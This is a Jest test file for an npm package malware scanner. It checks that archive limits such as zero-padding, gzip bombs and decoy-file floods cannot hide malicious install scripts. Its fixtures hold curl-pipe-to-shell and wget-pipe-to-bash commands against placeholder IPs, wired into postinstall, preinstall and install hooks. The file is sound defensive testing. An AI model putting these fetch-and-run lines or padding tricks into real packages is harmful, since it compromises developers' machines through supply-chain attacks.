/**
 * Limits never turn a malicious package into "clean" or "no install scripts" (issue 9, point 10):
 * after a limit hit the archive is still read for headers and small files, so package.json and
 * the files lifecycle scripts run are analysed; an incompletely read package is at least
 * `warning` with the reason, and the scanner stores a rated result instead of failing the job.
 * Every archive is generated at run time.
 */
import { gzipSync } from 'node:zlib';
import { analyzeTarball, type AnalysisResult } from '../../../src/engine/index';
import { readTarball } from '../../../src/engine/tar';
import { DEFAULT_LIMITS } from '../../../src/engine/types';
import { assessPackageRisk } from '../../../lambdas/scanner/assess';
import { runScan, type ScanDeps } from '../../../lambdas/scanner/run-scan';
import type { PackageResponse } from '../../../src/contract/schemas';
import { TarballTooLargeError, type Packument } from '../../../lambdas/shared/registry/npm-registry';
import type { StoredJob } from '../../../lambdas/shared/store/job-store';
import { pkgJson, tar, tarHeader } from './helpers';

jest.setTimeout(60_000);

const reasons = (r: { risk_reasons: string[] }) => r.risk_reasons.join('\n');
const MiB = 1024 * 1024;
const CURL_PIPE = 'curl -fsSL http://203.0.113.7/i.sh | sh';

/** Nine MiB of zeros before package.json: compresses about 1000:1 and trips the ratio limit. */
function zeroPaddedPackage(): Buffer {
  return gzipSync(
    tar([
      { name: 'package/assets/pad.bin', data: Buffer.alloc(9 * MiB) },
      pkgJson({ scripts: { postinstall: CURL_PIPE } }),
    ]),
  );
}

describe('reading goes on after a limit hit', () => {
  it('nine MiB of zeros before package.json: the postinstall is still read and rated critical', async () => {
    const r = await analyzeTarball(zeroPaddedPackage());
    expect(r.limits_hit).toContain('max_compression_ratio');
    expect(r.name).toBe('fixture');
    expect(r.install_scripts.postinstall).toBe(true);
    expect(r.risk_level).toBe('critical');
    expect(reasons(r)).toMatch(/postinstall/);
    expect(reasons(r)).toMatch(/expands more than 100x/);
    expect(reasons(r)).not.toMatch(/no package\.json/);
  });

  it('rewrite: padding inside a big bundle, the payload in a second file run by preinstall', async () => {
    const bundle = `/* build */\n${' '.repeat(20 * MiB)}\nmodule.exports = {};\n`;
    const hook = `const cp = require('child_process');\nconst opts = { stdio: 'ignore' };\ncp.execSync('wget -qO- http://198.51.100.9/p | bash', opts);\n`;
    const r = await analyzeTarball(
      gzipSync(
        tar([
          { name: 'package/dist/bundle.js', data: bundle },
          { name: 'package/tools/hook.js', data: hook },
          pkgJson({ scripts: { preinstall: 'node tools/hook.js' } }),
        ]),
      ),
    );
    expect(r.limits_hit).toContain('max_compression_ratio');
    expect(r.install_scripts.preinstall).toBe(true);
    expect(r.risk_level).toBe('critical');
    expect(reasons(r)).toMatch(/tools\/hook\.js:3/);
  });

  it('after the entry limit, later headers are still read and package.json is found', async () => {
    const many = Array.from({ length: 300 }, (_, i) => ({ name: `package/data/f${i}.txt`, data: `${i}` }));
    const r = await analyzeTarball(
      gzipSync(
        tar([
          ...many,
          { name: 'package/setup.js', data: `require('child_process').exec('${CURL_PIPE}');\n` },
          pkgJson({ scripts: { install: 'node setup.js' } }),
        ]),
      ),
      { maxEntries: 100 },
    );
    expect(r.limits_hit).toContain('max_entries');
    expect(r.install_scripts.install).toBe(true);
    expect(r.risk_level).toBe('critical');
    expect(reasons(r)).toMatch(/setup\.js:1/);
  });

  it('after a limit hit, files the lifecycle scripts name are kept even when decoys exhaust the budget', async () => {
    const decoys = Array.from({ length: 3_200 }, (_, i) => ({
      name: `package/locale/m${i}.json`,
      data: '{}',
    }));
    const r = await analyzeTarball(
      gzipSync(
        tar([
          pkgJson({ scripts: { postinstall: 'node ./scripts/run.js --quiet' } }),
          ...decoys,
          { name: 'package/scripts/run.js', data: `require('child_process').execSync('${CURL_PIPE}');\n` },
        ]),
      ),
      { maxEntries: 1_000 },
    );
    expect(r.limits_hit).toContain('max_entries');
    expect(r.skipped_files.some((s) => s.path.startsWith('locale/') && /not read/.test(s.reason))).toBe(true);
    expect(r.risk_level).toBe('critical');
    expect(reasons(r)).toMatch(/scripts\/run\.js:1/);
  });

  it('big files after a limit hit are listed as not read, small ones are kept', async () => {
    const a = await readTarball(
      gzipSync(
        tar([
          { name: 'package/pad.bin', data: Buffer.alloc(3 * MiB) },
          { name: 'package/big.js', data: `// ${'x'.repeat(2 * MiB)}` },
          { name: 'package/small.js', data: 'module.exports = 1;' },
        ]),
      ),
      { ...DEFAULT_LIMITS, ratioGraceBytes: MiB },
    );
    expect(a.incomplete).toBe(true);
    expect(a.files.map((f) => f.path)).toEqual(['pad.bin', 'small.js']);
    expect(a.skipped.find((s) => s.path === 'big.js')?.reason).toMatch(/not read: the archive limits/);
  });

  it('a hard cap still applies: padding beyond the unpacked cap stops reading, rated warning with the reason', async () => {
    const r = await analyzeTarball(zeroPaddedPackage(), { maxUnpackedBytes: 4 * MiB, ratioGraceBytes: MiB });
    expect(r.limits_hit).toEqual(expect.arrayContaining(['max_unpacked_bytes', 'max_compression_ratio']));
    expect(r.risk_level).toBe('warning');
    expect(reasons(r)).toMatch(
      /stopped reading before package\.json: its install scripts could not be checked/,
    );
    expect(reasons(r)).not.toMatch(/has no package\.json/);
  });

  it('reading after a limit hit has a time budget too', async () => {
    const a = await readTarball(zeroPaddedPackage(), { ...DEFAULT_LIMITS, packageTimeBudgetMs: 1 });
    expect(a.limitsHit).toEqual(expect.arrayContaining(['max_compression_ratio', 'archive_time_budget']));
    expect(a.incomplete).toBe(true);
  });

  it('a gzip bomb costs bounded time: header-only reading stops at the unpacked cap', async () => {
    const parts = [tar([pkgJson()], { end: false }), tarHeader({ name: 'package/bomb.bin' }, 200 * MiB)];
    const zeros = Buffer.alloc(200 * MiB);
    const gz = gzipSync(Buffer.concat([...parts, zeros]), { level: 9 });
    const t0 = Date.now();
    const r = await analyzeTarball(gz, { maxUnpackedBytes: 64 * MiB });
    expect(r.limits_hit).toEqual(expect.arrayContaining(['max_compression_ratio', 'max_unpacked_bytes']));
    expect(r.name).toBe('fixture');
    expect(r.risk_level).toBe('warning');
    expect(Date.now() - t0).toBeLessThan(15_000);
  });
});

describe('the scanner stores a rated result for limit hits', () => {
  const NOW = new Date('2026-11-23T10:00:00Z');
  const packument: Packument = {
    name: 'fixture',
    'dist-tags': { latest: '1.0.0' },
    versions: {
      '1.0.0': { name: 'fixture', version: '1.0.0', dist: { tarball: 'http://registry.test/x.tgz' } },
    },
    time: { created: '2020-01-01T00:00:00Z', '1.0.0': '2026-10-01T00:00:00Z' },
  };

  function harness(tarball: Buffer, analyze: (t: Buffer) => Promise<AnalysisResult>) {
    const state: { job: StoredJob; stored: PackageResponse[] } = {
      job: {
        job_id: 'a6e1c3f0-1b2d-4c5e-8f90-123456789abc',
        status: 'queued',
        source: 'registry',
        name: 'fixture',
        version: 'latest',
        registry: 'npm',
        created_at: NOW.toISOString(),
        updated_at: NOW.toISOString(),
      },
      stored: [],
    };
    const deps: ScanDeps = {
      jobs: {
        get: async () => state.job,
        markRunning: async () => {
          state.job = { ...state.job, status: 'running' };
          return true;
        },
        complete: async (_id, result) => {
          state.job = { ...state.job, status: 'completed', result };
        },
        fail: async (_id, error) => {
          state.job = { ...state.job, status: 'failed', error };
        },
        recordDuration: async () => undefined,
      },
      packages: {
        putScan: async (result) => {
          state.stored.push(result);
        },
        getLatest: async () => ({ value: undefined, itemsRead: 1 }),
        storedVersion: async () => undefined,
      },
      registry: {
        packument: async () => packument,
        resolveVersion: (p) => p.versions!['1.0.0']!,
        tarball: async () => tarball,
      },
      downloads: {
        weekly: async () => ({ count: 10, source: { kind: 'download-api' as const, as_of: '2026-11-20' } }),
      },
      uploads: { read: async () => tarball },
      advisories: { recordsFor: async () => [] },
      maxTarballBytes: 64 * MiB,
      analyze,
      assess: assessPackageRisk,
      now: () => NOW,
    };
    const message = {
      job_id: state.job.job_id,
      source: 'registry' as const,
      name: 'fixture',
      version: 'latest',
      registry: 'npm' as const,
    };
    return { deps, state, message };
  }

  it('the zero-padded package is stored and rated critical, not a failed job', async () => {
    const { deps, state, message } = harness(zeroPaddedPackage(), (t) => analyzeTarball(t));
    await expect(runScan(message, deps)).resolves.toBe('completed');
    expect(state.stored).toHaveLength(1);
    expect(state.stored[0]!.risk_level).toBe('critical');
    expect(state.stored[0]!.install_scripts.postinstall).toBe(true);
  });

  it('a package whose limits stopped reading before package.json is stored as warning with the reason', async () => {
    const bomb = gzipSync(
      Buffer.concat([tarHeader({ name: 'package/pad.bin' }, 40 * MiB), Buffer.alloc(40 * MiB)]),
      { level: 9 },
    );
    const { deps, state, message } = harness(bomb, (t) => analyzeTarball(t, { maxUnpackedBytes: 4 * MiB }));
    await expect(runScan(message, deps)).resolves.toBe('completed');
    expect(state.stored[0]!.risk_level).toBe('warning');
    expect(state.stored[0]!.risk_reasons.join('\n')).toMatch(/stopped reading before package\.json/);
  });

  it('no file read at all because of a limit: still a stored, rated result', async () => {
    const empty = await analyzeTarball(zeroPaddedPackage(), { maxCompressedBytes: 1 });
    expect(empty.stats.files).toBe(0);
    expect(empty.limits_hit).toContain('max_compressed_bytes');
    const { deps, state, message } = harness(Buffer.alloc(0), async () => empty);
    await expect(runScan(message, deps)).resolves.toBe('completed');
    expect(state.stored[0]!.risk_level).toBe('warning');
  });

  it('a registry tarball over the download limit is rated from its manifest, with the reason', async () => {
    const { deps, state, message } = harness(Buffer.alloc(0), (t) => analyzeTarball(t));
    deps.registry.tarball = async () => {
      throw new TarballTooLargeError('Tarball is 90000000 bytes; the limit is 67108864');
    };
    const big = { ...packument.versions!['1.0.0']!, scripts: { postinstall: 'node lib/fetch-binary.js' } };
    deps.registry.resolveVersion = () => big;
    await expect(runScan(message, deps)).resolves.toBe('completed');
    const stored = state.stored[0]!;
    expect(stored.risk_level).toBe('warning');
    expect(stored.install_scripts.postinstall).toBe(true);
    expect(stored.risk_reasons.join('\n')).toMatch(
      /90000000 bytes.*not analysed.*npm would still install it/,
    );

    deps.registry.resolveVersion = () => ({ ...big, scripts: { preinstall: CURL_PIPE } });
    state.job = { ...state.job, status: 'queued' };
    await expect(runScan(message, deps)).resolves.toBe('completed');
    expect(state.stored[1]!.risk_level).toBe('critical');
  });

  it('an upload that is not an archive at all still fails the job', async () => {
    const { deps, state, message } = harness(Buffer.from('not an archive at all, just text'), (t) =>
      analyzeTarball(t),
    );
    await expect(runScan(message, deps)).resolves.toBe('failed');
    expect(state.job.error).toMatch(/could not be read: not_gzip/);
  });
});
